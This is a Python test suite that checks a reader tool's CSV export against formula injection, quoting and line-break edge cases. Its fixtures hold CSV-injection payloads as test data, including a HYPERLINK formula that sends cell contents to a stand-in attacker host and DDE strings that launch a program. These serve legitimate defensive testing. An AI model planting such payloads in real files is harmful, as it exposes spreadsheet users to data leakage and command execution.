"""CSV exports read back whole by pandas and the csv module (#12): line breaks of every kind,
quotes and commas stay inside their cell, formulas are shown never run (unless --raw), numbers
stay numbers, every row carries the uid of the JSON export, and a full disk is one line."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path

import click
import pandas as pd
import pytest
from click.testing import CliRunner

from reader.cli import cli
from reader.exchange.writer import render
from reader.workspace import Workspace

ARTICLE = (
    "Intro line.\n\n"
    '=HYPERLINK("http://evil.example/?"&A1,"click")\n\n'
    "@SUM(A1:A9)\n\n"
    "-3\n\n"
    "An ordinary sentence, with a comma.\n"
)
# what a note, an attribute or a quote may hold: (cell as written, cell as a spreadsheet gets it)
CELLS = {
    "bare-cr": ("one\rtwo", "one\rtwo"),
    "lf": ("one\ntwo", "one\ntwo"),
    "crlf": ("one\r\ntwo", "one\r\ntwo"),
    "quotes": ('say "hi", twice ""', 'say "hi", twice ""'),
    "comma": ("a, b, c", "a, b, c"),
    "equals": ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    "plus": ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    "minus": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "at": ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    "tab": ("\t=1+1", "'\t=1+1"),
    "cr": ("\r=1+1", "'\r=1+1"),
    "negative": ("-3", "-3"),
    "signed": ("+4.5", "+4.5"),
    "exponent": ("-2e3", "-2e3"),
}


@pytest.fixture
def hostile(empty_root: Path) -> Iterator[Workspace]:
    """A workspace whose article, notes, attributes and title hold every cell of CELLS. Notes
    and attributes are written into the store directly: what the editor keeps out (a bare
    \r, leading blanks) can still arrive there from an import or an older version."""
    (empty_root / "corpus" / "hostile.txt").write_text(ARTICLE, encoding="utf-8")
    with Workspace.open(empty_root) as ws:
        doc = ws.document_at("hostile.txt")
        for name, (written, _) in CELLS.items():
            made = ws.annotate_quote(doc, "Intro line.", tags=[f"cell/{name}"])
            ws.store.conn.execute(
                "UPDATE annotations SET note = ? WHERE id = ?", (written, made.id)
            )
            ws.store.conn.execute(
                "INSERT INTO document_attributes VALUES (?, ?, ?, '2025-01-01')",
                (doc.id, name, written),
            )
        ws.store.conn.execute(
            "UPDATE documents SET title = ?, author = ? WHERE id = ?",
            ("Title\rwith a bare CR", "-Author, the", doc.id),
        )
        ws.store.conn.commit()
        for quote in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "-3"):
            ws.annotate_quote(doc, quote, note=quote)
        yield ws


def read_both(text: str) -> tuple[list[dict[str, str]], pd.DataFrame]:
    """The CSV as the csv module and as pandas read it."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    frame = pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False, dtype=str)
    return rows, frame


def test_every_cell_comes_back_whole_and_inert(hostile: Workspace) -> None:
    text = render(hostile, "csv", None, None, "doc")
    rows, frame = read_both(text)
    assert len(rows) == len(frame) == len(CELLS) + 3  # a bare \r split a record before
    assert frame.to_dict("records") == rows
    by_tag = {row["tag"].removeprefix("cell/"): row for row in rows if row["tag"]}
    for name, (_, shown) in CELLS.items():
        assert by_tag[name]["note"] == shown, name
        assert rows[0][name] == shown, name  # the attribute column of that name
    assert {row["title"] for row in rows} == {"Title\rwith a bare CR"}
    assert {row["author"] for row in rows} == {"'-Author, the"}
    quotes = [row["quote"] for row in rows if not row["tag"]]
    assert quotes == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@SUM(A1:A9)", "-3"]
    assert text.count("\r\n") >= len(rows) + 1  # the default dialect: CRLF between records
    for row in rows:  # nothing a spreadsheet would evaluate
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) or value == "+4.5"
            assert not value.startswith("-") or value in ("-3", "-2e3")


def test_a_negative_number_stays_a_number(hostile: Workspace) -> None:
    frame = pd.read_csv(io.StringIO(render(hostile, "csv", None, None, "doc"), newline=""))
    assert frame["negative"].iloc[0] == -3
    assert frame["exponent"].iloc[0] == -2000.0
    assert frame["signed"].iloc[0] == 4.5


def test_raw_writes_cells_verbatim(hostile: Workspace) -> None:
    rows, frame = read_both(render(hostile, "csv", None, None, "doc", raw=True))
    assert frame.to_dict("records") == rows
    by_tag = {row["tag"].removeprefix("cell/"): row for row in rows if row["tag"]}
    for name, (written, _) in CELLS.items():
        assert by_tag[name]["note"] == written, name
        assert rows[0][name] == written, name
    assert rows[-3]["quote"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_matrix_is_guarded_and_raw_on_request(hostile: Workspace) -> None:
    guarded, frame = read_both(
        render(hostile, "csv", None, None, "doc", (), True, hostile.store.db)
    )
    assert len(guarded) == len(frame) == 1
    assert guarded[0]["equals"] == CELLS["equals"][1] and guarded[0]["bare-cr"] == "one\rtwo"
    raw, _ = read_both(
        render(hostile, "csv", None, None, "doc", (), True, hostile.store.db, raw=True)
    )
    assert raw[0]["equals"] == CELLS["equals"][0] and raw[0]["tab"] == "\t=1+1"


def test_rows_join_the_json_export_by_uid(hostile: Workspace) -> None:
    rows, _ = read_both(render(hostile, "csv", None, None, "doc"))
    exported = json.loads(render(hostile, "json", None, None, "doc"))
    items = exported if isinstance(exported, list) else exported.get("items", exported)
    ids = {uuid.UUID(item["id"].removeprefix("urn:uuid:")) for item in items}
    assert {uuid.UUID(row["uid"]) for row in rows} == ids
    assert {a.uid for a in hostile.annotations()} == {row["uid"] for row in rows}


def run(root: Path, *args: str, code: int = 0) -> click.testing.Result:
    result = CliRunner().invoke(cli, ["-w", str(root), *args], catch_exceptions=False)
    assert result.exit_code == code, result.output
    return result


def test_cli_raw_and_default(hostile: Workspace, tmp_path: Path) -> None:
    root = hostile.root
    guarded = run(root, "export", "--format", "csv").stdout
    assert "'=HYPERLINK" in guarded
    out = tmp_path / "raw.csv"
    run(root, "export", "--format", "csv", "--raw", "-o", str(out))
    rows, _ = read_both(out.read_bytes().decode("utf-8"))
    assert rows[-3]["quote"].startswith("=HYPERLINK")


def test_a_full_disk_is_one_line_and_no_file(
    hostile: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_write = os.write

    def full(fd: int, data: bytes) -> int:
        if len(data) > 100:  # the export's content, not a pipe to the test runner
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    target = tmp_path / "out" / "highlights.csv"
    target.parent.mkdir()
    monkeypatch.setattr(os, "write", full)
    result = run(hostile.root, "export", "--format", "csv", "-o", str(target), code=2)
    assert result.stderr.count("\n") == 1 and "No space left on device" in result.stderr
    assert "Traceback" not in result.output
    assert list(target.parent.iterdir()) == []  # no half-written file, no temporary
